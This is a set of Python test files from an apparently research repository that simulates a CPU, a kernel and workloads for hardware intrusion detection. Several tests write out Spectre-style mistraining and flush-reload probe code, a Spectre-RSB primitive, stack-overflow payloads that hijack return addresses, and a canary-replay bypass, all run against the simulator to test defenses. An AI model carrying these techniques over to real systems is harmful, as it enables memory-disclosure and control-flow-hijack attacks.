        memory.map_segment("text", 0x1000, 0x1000, PERM_R | PERM_X)
        memory.map_segment("data", 0x4000, 0x1000, PERM_R | PERM_W)
        blob = encode_program([
            Instruction(Opcode.CLFLUSH, rs1=0, imm=0x4000),
            Instruction(Opcode.HALT),
        ])
        memory.write_bytes(0x1000, blob, force=True)
        cpu = Cpu(memory, config=CpuConfig(clflush_privileged=True))
        cpu.kernel_mode = True
        cpu.state.pc = 0x1000
        cpu.run()
        assert cpu.state.halted


class TestInvisibleSpeculation:
    """InvisiSpec-style defense: wrong-path loads leave no cache trace."""

    PROBE = """
    main:
        ; mispredict into a load of 'probe', then time its reload
        la   t1, probe
        clflush 0(t1)
        mfence
        li   a2, 6
    train:
        beq  a2, zero, strike
        li   a0, 1
        call victim
        addi a2, a2, -1
        jmp  train
    strike:
        la   t1, probe
        clflush 0(t1)
        mfence
        li   a0, 1000
        call victim
        la   t1, probe
        mfence
        rdcycle gp
        lw   t2, 0(t1)
        rdcycle lr
        sub  a0, lr, gp
        call libc_exit
    victim:
        la   t0, size
        lw   t0, 0(t0)
        bgeu a0, t0, victim_ret
        la   t1, probe
        lw   t2, 0(t1)
    victim_ret:
        ret
    .data
    size: .word 8
        .align 6
    probe: .word 0
    """

    def test_default_leaks(self):
        process = _run_with(self.PROBE, CpuConfig())
        assert process.exit_code < 50  # speculative fill visible

    def test_invisible_speculation_hides_fill(self):
        process = _run_with(
            self.PROBE, CpuConfig(invisible_speculation=True)
        )
        assert process.exit_code > 50  # no trace after the squash

    def test_architectural_loads_unaffected(self):
        process = _run_with("""
        main:
            la   t0, cell
            lw   t1, 0(t0)     ; warm the line architecturally
            mfence
            rdcycle gp
            lw   t1, 0(t0)
            rdcycle lr
            sub  a0, lr, gp
            call libc_exit
        .data
        cell: .word 7
        """, CpuConfig(invisible_speculation=True))
        assert process.exit_code < 50
