"""Whole-program execution tests on the CPU."""

import pytest

from repro.errors import CpuFault, ProtectionFault
from tests.conftest import run_source


class TestArithmeticPrograms:
    def test_exit_code_via_syscall(self):
        process = run_source("""
        main:
            li a0, 42
            call libc_exit
        """)
        assert process.exit_code == 42

    def test_loop_sum(self):
        process = run_source("""
        main:
            li t0, 0
            li t1, 1
        loop:
            slti t2, t1, 11
            beq  t2, zero, done
            add  t0, t0, t1
            addi t1, t1, 1
            jmp  loop
        done:
            mov a0, t0
            call libc_exit
        """)
        assert process.exit_code == 55

    def test_zero_register_ignores_writes(self):
        process = run_source("""
        main:
            li   zero, 99
            mov  a0, zero
            call libc_exit
        """)
        assert process.exit_code == 0

    def test_function_call_and_return(self):
        process = run_source("""
        main:
            li   a0, 5
            call double
            mov  a0, rv
            call libc_exit
        double:
            add  rv, a0, a0
            ret
        """)
        assert process.exit_code == 10

    def test_nested_calls(self):
        process = run_source("""
        main:
            li   a0, 3
            call f
            mov  a0, rv
            call libc_exit
        f:
            push a0
            call g
            pop  a0
            add  rv, rv, a0
            ret
        g:
            li   rv, 100
            ret
        """)
        assert process.exit_code == 103

    def test_recursion_factorial(self):
        process = run_source("""
        main:
            li   a0, 5
            call fact
            mov  a0, rv
            call libc_exit
        fact:
            slti t0, a0, 2
            beq  t0, zero, fact_rec
            li   rv, 1
            ret
        fact_rec:
            push a0
            addi a0, a0, -1
            call fact
            pop  a0
            mul  rv, rv, a0
            ret
        """)
        assert process.exit_code == 120

    def test_indirect_call(self):
        process = run_source("""
        main:
            la    t0, target
            callr t0
            mov   a0, rv
            call  libc_exit
        target:
            li    rv, 77
            ret
        """)
        assert process.exit_code == 77

    def test_jump_table_via_jmpr(self):
        process = run_source("""
        main:
            la   t0, case1
            jmpr t0
            li   a0, 0
            call libc_exit
        case1:
            li   a0, 11
            call libc_exit
        """)
        assert process.exit_code == 11


class TestMemoryPrograms:
    def test_byte_and_word_stores(self):
        process = run_source("""
        main:
            la   t0, buf
            li   t1, 0x11223344
            sw   t1, 0(t0)
            lb   a0, 1(t0)        ; little endian: byte 1 = 0x33
            call libc_exit
        .data
        buf: .word 0
        """)
        assert process.exit_code == 0x33

    def test_stack_push_pop(self):
        process = run_source("""
        main:
            li   t0, 21
            push t0
            li   t0, 0
            pop  a0
            call libc_exit
        """)
        assert process.exit_code == 21

    def test_argv_delivery(self):
        process = run_source("""
        main:
            ; a0=argc, a1=argv, a2=lengths; exit(len(argv[1]))
            lw   t0, 4(a2)
            mov  a0, t0
            call libc_exit
        """, argv=[b"hello"])
        assert process.exit_code == 5

    def test_write_syscall_captures_stdout(self):
        process = run_source("""
        main:
            la   a0, msg
            call puts
            li   a0, 0
            call libc_exit
        .data
        msg: .asciiz "hi there"
        """)
        assert process.stdout_text() == "hi there"


class TestFaults:
    def test_segfault_terminates_process(self):
        process = run_source("""
        main:
            li  t0, 0x0EADBEE0
            lw  t1, 0(t0)
            halt
        """)
        assert process.state.value == "faulted"

    def test_dep_fetch_fault(self):
        """Jumping into the (writable) data segment trips W^X."""
        process = run_source("""
        main:
            la   t0, blob
            jmpr t0
        .data
        blob: .word 0x01, 0
        """)
        assert isinstance(process.fault, ProtectionFault)

    def test_misaligned_word(self):
        process = run_source("""
        main:
            la  t0, buf
            lw  t1, 1(t0)
        .data
        buf: .word 1, 2
        """)
        assert process.state.value == "faulted"

    def test_halt_is_clean_exit(self):
        process = run_source("main:\n halt")
        assert process.state.value == "exited"
        assert process.exit_code == 0


class TestCycleCounters:
    def test_rdcycle_monotonic(self):
        process = run_source("""
        main:
            rdcycle t0
            nop
            nop
            rdcycle t1
            sltu a0, t0, t1
            bne  a0, zero, ok
            li   a0, 0
            call libc_exit
        ok:
            li   a0, 1
            call libc_exit
        """)
        assert process.exit_code == 1

    def test_rdinstret_counts(self):
        process = run_source("""
        main:
            rdinstret t0
            nop
            nop
            nop
            rdinstret t1
            sub  a0, t1, t0
            call libc_exit
        """)
        assert process.exit_code == 4  # nop x3 + the second rdinstret
