"""PMU tests: the 56-event catalogue and sampling semantics."""

from repro.cpu.pmu import EVENT_NAMES, NUM_EVENTS, PAPER_FEATURES
from tests.conftest import run_source


class TestCatalogue:
    def test_exactly_56_events(self):
        assert NUM_EVENTS == 56
        assert len(set(EVENT_NAMES)) == 56

    def test_paper_features_present(self):
        for name in PAPER_FEATURES:
            assert name in EVENT_NAMES

    def test_paper_feature_list(self):
        assert PAPER_FEATURES == (
            "total_cache_misses",
            "total_cache_accesses",
            "branch_instructions",
            "branch_mispredictions",
            "instructions",
            "cycles",
        )


class TestCounting:
    def _pmu_after(self, source):
        return run_source(source).pmu.read()

    def test_instruction_classes(self):
        snap = self._pmu_after("""
        main:
            add  t0, t1, t2
            mul  t0, t0, t0
            lw   t1, 0(sp)
            sw   t1, 0(sp)
            push t1
            pop  t1
            mfence
            halt
        """)
        assert snap["alu_instructions"] == 2
        assert snap["mul_div_instructions"] == 1
        assert snap["load_instructions"] == 1
        assert snap["store_instructions"] == 1
        assert snap["stack_instructions"] == 2
        assert snap["mfence_instructions"] == 1

    def test_branch_classes(self):
        snap = self._pmu_after("""
        main:
            beq  zero, zero, next
        next:
            call f
            jmp  over
        over:
            halt
        f:
            ret
        """)
        assert snap["cond_branch_instructions"] == 1
        assert snap["branches_taken"] == 1
        assert snap["call_instructions"] == 1
        assert snap["ret_instructions"] == 1
        assert snap["branch_instructions"] == 4  # beq, call, jmp, ret

    def test_clflush_counted(self):
        snap = self._pmu_after("""
        main:
            la t0, cell
            clflush 0(t0)
            halt
        .data
        cell: .word 0
        """)
        assert snap["clflush_instructions"] == 1

    def test_totals_consistent(self):
        snap = self._pmu_after("""
        main:
            li t0, 0
        loop:
            slti t1, t0, 50
            beq  t1, zero, done
            lw   t2, 0(sp)
            addi t0, t0, 1
            jmp  loop
        done:
            halt
        """)
        assert snap["total_cache_accesses"] == (
            snap["l1d_accesses"] + snap["l1i_accesses"]
        )
        assert snap["total_cache_misses"] == (
            snap["l1d_misses"] + snap["l1i_misses"]
        )
        assert snap["l1d_hits"] + snap["l1d_misses"] == snap["l1d_accesses"]
        assert snap["cycles"] > 0
        assert snap["instructions"] > 100


class TestDeltas:
    def test_delta_since_isolates_window(self):
        process = run_source("""
        main:
            li t0, 0
        loop:
            addi t0, t0, 1
            jmp loop
        """, max_instructions=100)
        pmu = process.cpu.pmu
        snapshot = pmu.snapshot()
        process.cpu.run(max_instructions=500)
        delta = pmu.delta_since(snapshot)
        assert delta["instructions"] == 500
        assert set(delta) == set(EVENT_NAMES)

    def test_ipc_positive(self):
        process = run_source("""
        main:
            li t0, 0
        loop:
            slti t1, t0, 200
            beq  t1, zero, done
            addi t0, t0, 1
            jmp  loop
        done:
            halt
        """)
        assert 0.1 < process.pmu.ipc <= 4.0
