"""Differential testing: the CPU vs an independent reference interpreter.

Random straight-line ALU programs run on both the full speculative CPU
and a minimal Python evaluator of the ISA semantics; the architectural
register file must match exactly.  Catches dispatch mix-ups, masking
bugs and zero-register violations that unit tests might miss.
"""

from hypothesis import given, settings, strategies as st

from repro.cpu.cpu import Cpu, _alu_rri, _alu_rrr
from repro.isa.encoding import encode_program
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Opcode
from repro.mem.memory import Memory, PERM_R, PERM_X

_RRR_OPS = [
    Opcode.ADD, Opcode.SUB, Opcode.MUL, Opcode.DIV, Opcode.MOD,
    Opcode.AND, Opcode.OR, Opcode.XOR, Opcode.SHL, Opcode.SHR,
    Opcode.SRA, Opcode.SLT, Opcode.SLTU,
]
_RRI_OPS = [
    Opcode.ADDI, Opcode.MULI, Opcode.ANDI, Opcode.ORI, Opcode.XORI,
    Opcode.SHLI, Opcode.SHRI, Opcode.SRAI, Opcode.SLTI,
]

_REGS = st.integers(min_value=0, max_value=15)
_IMM = st.integers(min_value=-(2**31), max_value=2**31 - 1)


def _alu_instruction():
    rrr = st.builds(
        lambda op, rd, rs1, rs2: Instruction(op, rd=rd, rs1=rs1, rs2=rs2),
        st.sampled_from(_RRR_OPS), _REGS, _REGS, _REGS,
    )
    rri = st.builds(
        lambda op, rd, rs1, imm: Instruction(op, rd=rd, rs1=rs1, imm=imm),
        st.sampled_from(_RRI_OPS), _REGS, _REGS, _IMM,
    )
    li = st.builds(
        lambda rd, imm: Instruction(Opcode.LI, rd=rd, imm=imm),
        _REGS, _IMM,
    )
    mov = st.builds(
        lambda rd, rs1: Instruction(Opcode.MOV, rd=rd, rs1=rs1),
        _REGS, _REGS,
    )
    return st.one_of(rrr, rri, li, mov)


def _reference_run(instructions, initial_regs):
    """Minimal independent evaluator of the ALU subset."""
    regs = list(initial_regs)
    for insn in instructions:
        op = insn.opcode
        if op == Opcode.LI:
            value = insn.imm & 0xFFFFFFFF
        elif op == Opcode.MOV:
            value = regs[insn.rs1]
        elif op in _RRR_OPS:
            value = _alu_rrr(op, regs[insn.rs1], regs[insn.rs2])
        else:
            value = _alu_rri(op, regs[insn.rs1], insn.imm)
        if insn.rd != 0:
            regs[insn.rd] = value & 0xFFFFFFFF
    return regs


def _cpu_run(instructions, initial_regs):
    memory = Memory()
    blob = encode_program(instructions + [Instruction(Opcode.HALT)])
    memory.map_segment("text", 0x1000, max(4096, len(blob)),
                       PERM_R | PERM_X)
    memory.write_bytes(0x1000, blob, force=True)
    cpu = Cpu(memory)
    for index, value in enumerate(initial_regs):
        cpu.state.write_reg(index, value)
    cpu.state.pc = 0x1000
    cpu.run()
    return list(cpu.state.regs)


class TestDifferential:
    @settings(max_examples=80, deadline=None)
    @given(
        st.lists(_alu_instruction(), min_size=1, max_size=40),
        st.lists(st.integers(min_value=0, max_value=0xFFFFFFFF),
                 min_size=16, max_size=16),
    )
    def test_cpu_matches_reference(self, instructions, initial):
        initial[0] = 0  # r0 is architectural zero
        expected = _reference_run(instructions, initial)
        actual = _cpu_run(instructions, initial)
        assert actual == expected

    @settings(max_examples=30, deadline=None)
    @given(st.lists(_alu_instruction(), min_size=1, max_size=40))
    def test_cpu_is_deterministic(self, instructions):
        zeros = [0] * 16
        assert _cpu_run(instructions, zeros) == \
            _cpu_run(instructions, zeros)

    @settings(max_examples=30, deadline=None)
    @given(st.lists(_alu_instruction(), min_size=1, max_size=20))
    def test_r0_always_zero(self, instructions):
        regs = _cpu_run(instructions, [0] * 16)
        assert regs[0] == 0
