"""Speculative-execution tests: the microarchitectural core of Spectre.

These verify the two defining properties of the wrong-path window:

1. architectural state (registers, memory) is fully squashed, and
2. cache fills made on the wrong path PERSIST — the covert channel.
"""

from repro.kernel import System, build_binary
from tests.conftest import SECRET, run_source


def _run(source, **kwargs):
    return run_source(source, target_data=SECRET, **kwargs)


class TestSquash:
    def test_wrong_path_register_writes_squashed(self):
        process = _run("""
        main:
            ; train 'taken' then violate: wrong path must not leak into t3
            li   t3, 7
            li   t0, 0
            li   t1, 3
        train:
            bge  t0, t1, after      ; eventually mispredicts
            addi t0, t0, 1
            jmp  train
        after:
            ; wrong path of the final bge (not-taken side) would run this:
            li   t3, 99
            nop
        check:
            mov  a0, t3
            call libc_exit
        """)
        # Architecturally t3 is always 99 here (fall-through executes it
        # for real); the squash property is tested via memory below.
        assert process.exit_code == 99

    def test_wrong_path_stores_squashed(self):
        process = _run("""
        main:
            li   t0, 0
        mistrain:
            slti t1, t0, 4
            beq  t1, zero, strike     ; trained not-taken x4, then taken
            addi t0, t0, 1
            jmp  mistrain
        strike:
            li   t2, 5                ; make the branch mispredict now:
            slti t1, t0, 4            ; actual=false, predicted... trained
            bne  t1, zero, poison     ; never architecturally taken
            jmp  check
        poison:
            la   t3, cell
            li   t1, 666
            sw   t1, 0(t3)
            jmp  check
        check:
            la   t3, cell
            lw   a0, 0(t3)
            call libc_exit
        .data
        cell: .word 42
        """)
        assert process.exit_code == 42  # the poison store never commits

    def test_spec_counters_increment(self):
        process = _run("""
        main:
            li   t0, 0
        loop:
            slti t1, t0, 6
            beq  t1, zero, done   ; mispredicts at loop exit
            addi t0, t0, 1
            jmp  loop
        done:
            halt
        """)
        snap = process.pmu.read()
        assert snap["spec_instructions"] > 0
        assert snap["squashed_instructions"] == snap["spec_instructions"]


class TestPersistentCacheFills:
    SOURCE = r"""
    main:
        ; train the victim branch (TRAIN_VALUE selects the direction),
        ; flush the probe line, strike out-of-bounds, time the reload.
        li   a2, 6
    train:
        beq  a2, zero, flush
        li   a0, TRAIN_VALUE
        call victim
        addi a2, a2, -1
        jmp  train
    flush:
        la   t1, probe
        clflush 0(t1)
        mfence
        li   a0, 1000          ; out of bounds
        call victim
        ; reload: exit code = measured latency, small = cache hit
        la   t1, probe
        mfence
        rdcycle gp
        lw   t2, 0(t1)
        rdcycle lr
        sub  a0, lr, gp
        call libc_exit

    victim:
        la   t0, size
        lw   t0, 0(t0)
        bgeu a0, t0, victim_ret
        la   t1, probe         ; wrong-path load fills the probe line
        lw   t2, 0(t1)
    victim_ret:
        ret

    .data
    size: .word 8
        .align 6
    probe: .word 0
    """

    def test_wrong_path_fill_persists(self):
        process = _run(self.SOURCE.replace("TRAIN_VALUE", "1"))
        latency = process.exit_code
        assert latency < 50, (
            f"probe reload took {latency} cycles; the speculative fill "
            f"did not persist"
        )

    def test_anti_trained_branch_no_fill(self):
        # Training with out-of-bounds values teaches the predictor the
        # *taken* direction: the strike is predicted correctly, there is
        # no misprediction and hence no wrong-path fill.
        process = _run(self.SOURCE.replace("TRAIN_VALUE", "2000"))
        assert process.exit_code > 50

    def test_spec_window_zero_disables_channel(self):
        from repro.cpu import CpuConfig

        system = System(seed=9, target_data=SECRET,
                        cpu_config=CpuConfig(spec_window=0))
        program = build_binary(
            "nospec", self.SOURCE.replace("TRAIN_VALUE", "1")
        )
        system.install_binary("/bin/nospec", program)
        process = system.spawn("/bin/nospec")
        process.run_to_completion()
        assert process.exit_code > 50  # no transient window, no fill


class TestRsbSpeculation:
    def test_smashed_return_speculates_at_rsb_target(self):
        """Spectre-RSB primitive: wrong path runs at the stale RSB
        prediction (the instruction after the call site)."""
        process = _run("""
        main:
            la   t1, probe
            clflush 0(t1)
            mfence
            call f
            ; RSB-predicted wrong path (architecturally skipped):
            la   t1, probe
            lw   t2, 0(t1)
        resume:
            la   t1, probe
            mfence
            rdcycle gp
            lw   t2, 0(t1)
            rdcycle lr
            sub  a0, lr, gp
            call libc_exit
        f:
            la   t0, resume
            sw   t0, 0(sp)
            ret
        .data
            .align 6
        probe: .word 0
        """)
        assert process.exit_code < 50
