"""Behavioural tests for the second wave of MiBench kernels."""

from repro.kernel import System
from repro.workloads import get_workload


def _finished(name, iterations, max_instructions=10_000_000, seed=2):
    system = System(seed=seed)
    program = get_workload(name).build(iterations=iterations)
    system.install_binary("/bin/w", program)
    process = system.spawn("/bin/w")
    process.run_to_completion(max_instructions=max_instructions)
    assert process.state.value == "exited", process.fault
    return process


class TestRijndael:
    def test_state_diffuses(self):
        """More rounds => different cipher state (the S-box bijection +
        mixing actually propagate)."""
        def state(iterations):
            process = _finished("rijndael", iterations)
            base = process.image.address_of("rj_state")
            return process.memory.read_bytes(base, 16)

        assert state(1) != state(2) != state(3)

    def test_sbox_is_permutation(self):
        from repro.workloads.mibench.rijndael import _sbox

        table = _sbox()
        assert sorted(table) == list(range(256))

    def test_load_heavy_signature(self):
        process = _finished("rijndael", 10)
        snap = process.pmu.read()
        assert snap["load_instructions"] / snap["instructions"] > 0.10


class TestAdpcm:
    def test_predictor_stays_clamped(self):
        import struct

        process = _finished("adpcm", 10)
        base = process.image.address_of("ad_predicted")
        raw = struct.unpack(
            "<i", process.memory.read_bytes(base, 4)
        )[0]
        assert -32768 <= raw <= 32767

    def test_step_index_stays_in_table(self):
        import struct

        process = _finished("adpcm", 10)
        base = process.image.address_of("ad_index")
        index = struct.unpack(
            "<i", process.memory.read_bytes(base, 4)
        )[0]
        assert 0 <= index <= 88

    def test_real_step_table_embedded(self):
        source = get_workload("adpcm").source(iterations=1)
        assert "32767" in source  # last IMA step value
        assert "16818" in source


class TestPatricia:
    def test_replayed_keys_hit(self):
        """Half of every burst replays inserted keys: with 64 lookups x
        N iterations, the hit count must reflect ~50% hits."""
        process = _finished("patricia", 4)
        # exit code = hits & 0xFF; 4 iterations x 32 hits = 128
        assert process.exit_code == 128

    def test_scrambled_keys_miss(self):
        # The exit code would exceed 128 if the miss keys ever hit.
        process = _finished("patricia", 2)
        assert process.exit_code == 64

    def test_dependent_load_signature(self):
        process = _finished("patricia", 6)
        snap = process.pmu.read()
        assert snap["load_instructions"] / snap["instructions"] > 0.15


class TestSusan:
    def test_smoothing_pulls_toward_neighbours(self):
        """Every output pixel must sit within the 3x3 input range."""
        from repro.workloads.mibench.susan import IMAGE_DIM

        process = _finished("susan", 1, max_instructions=3_000_000)
        image_base = process.image.address_of("su_image")
        output_base = process.image.address_of("su_output")
        image = process.memory.read_bytes(image_base,
                                          IMAGE_DIM * IMAGE_DIM)
        output = process.memory.read_bytes(output_base,
                                           IMAGE_DIM * IMAGE_DIM)
        for row in range(1, 5):
            for col in range(1, 5):
                window = [
                    image[(row + dr) * IMAGE_DIM + (col + dc)]
                    for dr in (-1, 0, 1) for dc in (-1, 0, 1)
                ]
                pixel = output[row * IMAGE_DIM + col]
                assert min(window) <= pixel <= max(window)

    def test_branchy_signature(self):
        process = _finished("susan", 1, max_instructions=3_000_000)
        snap = process.pmu.read()
        assert snap["branch_instructions"] / snap["instructions"] > 0.2
