"""Workload tests: every kernel builds, runs, exits and is deterministic."""

import pytest

from repro.kernel import ProcessState, System
from repro.workloads import ALL_WORKLOADS, FIG4_HOSTS, get_workload


#: Long-iteration workloads get fewer loops so the suite stays fast.
_TEST_ITERATIONS = {"hid_daemon_heavy": 2, "hid_daemon_light": 4}


def _run(workload, iterations=None, max_instructions=6_000_000):
    if iterations is None:
        iterations = _TEST_ITERATIONS.get(workload.name, 8)
    system = System(seed=2)
    program = workload.build(iterations=iterations)
    system.install_binary("/bin/w", program)
    process = system.spawn("/bin/w")
    process.run_to_completion(max_instructions=max_instructions)
    return process


class TestEveryWorkload:
    @pytest.mark.parametrize(
        "name", [w.name for w in ALL_WORKLOADS]
    )
    def test_runs_to_clean_exit(self, name):
        process = _run(get_workload(name))
        assert process.state == ProcessState.EXITED, process.fault
        assert process.fault is None

    @pytest.mark.parametrize(
        "name", [w.name for w in ALL_WORKLOADS]
    )
    def test_deterministic_exit_code(self, name):
        a = _run(get_workload(name))
        b = _run(get_workload(name))
        assert a.exit_code == b.exit_code
        assert a.pmu.read()["instructions"] == b.pmu.read()["instructions"]

    def test_iterations_scale_work(self):
        workload = get_workload("bitcount")
        small = _run(workload, iterations=10)
        large = _run(workload, iterations=40)
        ratio = (large.pmu.read()["instructions"]
                 / small.pmu.read()["instructions"])
        assert 2.5 < ratio < 5.5


class TestSignatures:
    """Each kernel must have a distinct microarchitectural character —
    that diversity is what the HID trains on."""

    def _profile(self, name):
        process = _run(get_workload(name), iterations=12)
        snap = process.pmu.read()
        instr = snap["instructions"]
        return {
            "miss_rate": snap["total_cache_misses"] / instr,
            "branch_rate": snap["branch_instructions"] / instr,
            "muldiv_rate": snap["mul_div_instructions"] / instr,
            "load_rate": snap["load_instructions"] / instr,
        }

    def test_basicmath_is_divide_heavy(self):
        profile = self._profile("basicmath")
        assert profile["muldiv_rate"] > 0.08

    def test_bitcount_is_alu_bound(self):
        profile = self._profile("bitcount")
        assert profile["miss_rate"] < 0.01
        assert profile["load_rate"] < 0.15

    def test_browser_misses_caches(self):
        profile = self._profile("browser")
        assert profile["miss_rate"] > 0.02

    def test_qsort_is_branchy(self):
        profile = self._profile("qsort")
        assert profile["branch_rate"] > 0.2

    def test_crc32_loads_more_than_basicmath(self):
        crc = self._profile("crc32")
        math = self._profile("basicmath")
        assert crc["load_rate"] > math["load_rate"]


class TestRegistry:
    def test_unknown_name(self):
        with pytest.raises(KeyError):
            get_workload("doom")

    def test_fig4_hosts_exist(self):
        for name in FIG4_HOSTS:
            assert get_workload(name).category == "mibench"

    def test_categories(self):
        from repro.workloads import workload_names

        assert "basicmath" in workload_names("mibench")
        assert "browser" in workload_names("benign")
        assert "basicmath" not in workload_names("benign")


class TestQuicksortCorrectness:
    def test_array_actually_sorted(self):
        """Run qsort once and inspect the array in simulated memory."""
        import struct

        from repro.workloads.mibench.qsort import ARRAY_LEN

        system = System(seed=2)
        workload = get_workload("qsort")
        program = workload.build(iterations=1)
        system.install_binary("/bin/q", program)
        process = system.spawn("/bin/q")
        process.run_to_completion(max_instructions=2_000_000)
        base = process.image.address_of("qs_array")
        blob = process.memory.read_bytes(base, 4 * ARRAY_LEN)
        values = list(struct.unpack(f"<{ARRAY_LEN}i", blob))
        assert values == sorted(values)


class TestSha1Correctness:
    def test_state_changes_per_block(self):
        """Digest state must differ between 1-block and 2-block runs."""
        system = System(seed=2)
        workload = get_workload("sha")

        def digest(iterations):
            program = workload.build(iterations=iterations)
            local = System(seed=2)
            local.install_binary("/bin/s", program)
            process = local.spawn("/bin/s")
            process.run_to_completion(max_instructions=4_000_000)
            base = process.image.address_of("sha_h")
            return process.memory.read_bytes(base, 20)

        assert digest(1) != digest(2)

    def test_known_initial_vector_consumed(self):
        workload = get_workload("sha")
        source = workload.source(iterations=1)
        assert "0x67452301" in source  # SHA-1 H0
        assert "0xCA62C1D6" in source  # round-4 K
