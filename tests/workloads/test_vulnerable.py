"""Tests for the Algorithm-1 vulnerable host wrapper."""

import struct

from repro.kernel import ProcessState, System
from repro.workloads import (
    OVERFLOW_FILL_BYTES,
    OVERFLOW_FILL_BYTES_CANARY,
    get_workload,
)


def _spawn_host(argv, canary=0, seed=2):
    system = System(seed=seed)
    workload = get_workload("basicmath")
    program = workload.build(iterations=5, hosted=not canary,
                             canary=canary)
    system.install_binary("/bin/host", program)
    process = system.spawn("/bin/host", argv=argv)
    process.run_to_completion(max_instructions=2_000_000)
    return process


class TestBenignInput:
    def test_no_argument_runs_workload(self):
        process = _spawn_host([])
        assert process.state == ProcessState.EXITED
        assert process.fault is None

    def test_short_input_copied_safely(self):
        process = _spawn_host([b"hello"])
        assert process.state == ProcessState.EXITED

    def test_input_up_to_buffer_size_safe(self):
        process = _spawn_host([b"A" * 100])
        assert process.state == ProcessState.EXITED


class TestOverflow:
    def test_overflow_past_fill_smashes_return(self):
        # Fill + a bogus return address: the function returns into
        # unmapped memory and the process segfaults.
        payload = b"D" * OVERFLOW_FILL_BYTES + struct.pack("<I", 0x0BAD0000)
        process = _spawn_host([payload])
        assert process.state == ProcessState.FAULTED

    def test_overflow_redirects_control(self):
        """Pointing the smashed return address at a real function proves
        arbitrary control-flow hijack (the ROP primitive)."""
        system = System(seed=2)
        workload = get_workload("basicmath")
        program = workload.build(iterations=5, hosted=True)
        system.install_binary("/bin/host", program)
        # Target: libc_exit (it reads a0, which holds the input pointer —
        # nonzero — so exit code is nonzero; faulting would be state
        # FAULTED instead).
        from repro.mem.layout import AddressSpaceLayout

        layout = AddressSpaceLayout()
        target = layout.text_base + program.text_offset_of("libc_exit")
        payload = b"D" * OVERFLOW_FILL_BYTES + struct.pack("<I", target)
        process = system.spawn("/bin/host", argv=[payload])
        process.run_to_completion(max_instructions=2_000_000)
        assert process.state == ProcessState.EXITED

    def test_exact_fill_no_smash(self):
        # Writing exactly up to (not past) the return address is "safe".
        process = _spawn_host([b"D" * OVERFLOW_FILL_BYTES])
        assert process.state == ProcessState.EXITED


class TestCanaryVariant:
    CANARY = 0x0BADF00D

    def test_benign_input_passes_canary(self):
        process = _spawn_host([b"short"], canary=self.CANARY)
        assert process.state == ProcessState.EXITED
        assert process.exit_code != 97

    def test_overflow_trips_canary(self):
        payload = (b"D" * OVERFLOW_FILL_BYTES_CANARY
                   + struct.pack("<I", 0x0BAD0000))
        process = _spawn_host([payload], canary=self.CANARY)
        assert process.state == ProcessState.EXITED
        assert process.exit_code == 97  # __stack_chk_fail abort code

    def test_replayed_canary_bypasses(self):
        """A leaked canary value written back in place defeats the check
        — the classic canary-bypass ablation."""
        fill = bytearray(b"D" * OVERFLOW_FILL_BYTES_CANARY)
        struct.pack_into("<I", fill, 100, self.CANARY)
        payload = bytes(fill) + struct.pack("<I", 0x0BAD0000)
        process = _spawn_host([payload], canary=self.CANARY)
        assert process.state == ProcessState.FAULTED  # reached the ret
