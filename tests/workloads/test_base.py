"""Workload-wrapper (base) tests: the three build variants."""

from repro.workloads import get_workload
from repro.workloads.base import (
    OVERFLOW_BUFFER_BYTES,
    OVERFLOW_FILL_BYTES,
    OVERFLOW_FILL_BYTES_CANARY,
)


class TestSourceVariants:
    def test_standalone_has_plain_main(self):
        source = get_workload("bitcount").source(iterations=5)
        assert "exploited_function" not in source
        assert "workload_main" in source

    def test_hosted_contains_algorithm1(self):
        source = get_workload("bitcount").source(iterations=5, hosted=True)
        assert "exploited_function" in source
        assert "__canary_value" not in source

    def test_canary_variant(self):
        source = get_workload("bitcount").source(
            iterations=5, canary=0xAB12
        )
        assert "__canary_value" in source
        assert str(0xAB12) in source

    def test_frame_constants_consistent(self):
        assert OVERFLOW_FILL_BYTES == OVERFLOW_BUFFER_BYTES + 4
        assert OVERFLOW_FILL_BYTES_CANARY == OVERFLOW_BUFFER_BYTES + 8


class TestBuildCaching:
    def test_same_parameters_same_program(self):
        workload = get_workload("bitcount")
        assert workload.build(iterations=7) is workload.build(iterations=7)

    def test_different_parameters_different_program(self):
        workload = get_workload("bitcount")
        assert workload.build(iterations=7) is not \
            workload.build(iterations=8)
        assert workload.build(iterations=7) is not \
            workload.build(iterations=7, hosted=True)

    def test_binary_path_convention(self):
        workload = get_workload("sha")
        assert workload.binary_path() == "/bin/sha"
        assert workload.binary_path(hosted=True) == "/bin/sha_host"


class TestHostedBinarySymbols:
    def test_entry_and_vuln_symbols(self):
        program = get_workload("bitcount").build(iterations=5, hosted=True)
        assert program.has_symbol("main")
        assert program.has_symbol("exploited_function")
        assert program.has_symbol("workload_main")
        assert program.has_symbol("libc_execve")  # the chain's target
