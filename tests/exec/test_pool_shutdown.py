"""Warm-pool lifecycle: no spawned worker outlives an explicit reap.

The shared pools are deliberately long-lived (that is the whole point
of :mod:`repro.exec.pool`), which makes the shutdown path the one
place a process leak could hide: a driver that finishes its sweeps
must be able to reap every worker *now*, not at interpreter exit.
"""

import os
import time

from repro.exec.pool import shared_pool, shutdown_all, warmup


def _alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:  # pragma: no cover - exists, not ours
        return True
    return True


def _worker_pids(jobs):
    pool = shared_pool(jobs)
    from repro.exec.pool import _probe

    return {future.result()
            for future in [pool.submit(_probe, 0.05)
                           for _ in range(jobs)]}


class TestShutdownAll:
    def test_no_worker_survives_an_explicit_shutdown(self):
        warmup(2)
        pids = _worker_pids(2)
        assert pids and all(_alive(pid) for pid in pids)
        assert shutdown_all(wait=True) >= 1
        deadline = time.monotonic() + 10.0
        while any(_alive(pid) for pid in pids):
            assert time.monotonic() < deadline, \
                f"pool workers survived shutdown_all: {pids}"
            time.sleep(0.05)

    def test_idempotent_and_recoverable(self):
        shutdown_all()
        assert shutdown_all() == 0
        # The registry heals: the next request builds a fresh pool.
        warmup(2)
        assert _worker_pids(2)
        assert shutdown_all() == 1
