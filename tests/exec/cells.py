"""Module-level cell bodies for the exec tests.

Cells must be importable top-level functions: ``ProcessPoolBackend``
pickles ``(fn, kwargs)`` to spawn-started workers, so a lambda or a
closure would fail before it ever ran.
"""

import os
import random

from repro.errors import FatalError, TransientError


def seeded_value(tag, cell_seed=0):
    """Deterministic value from the derived seed alone."""
    rng = random.Random(cell_seed)
    return {"tag": tag, "draw": rng.random()}


def summed(values, factor, cell_seed=0):
    """Depends on another cell's value (dependency injection check)."""
    return {"sum": values["draw"] * factor, "seed": cell_seed}


def transient_boom(cell_seed=0):
    raise TransientError(f"injected transient failure (seed {cell_seed})")


def fatal_boom(cell_seed=0):
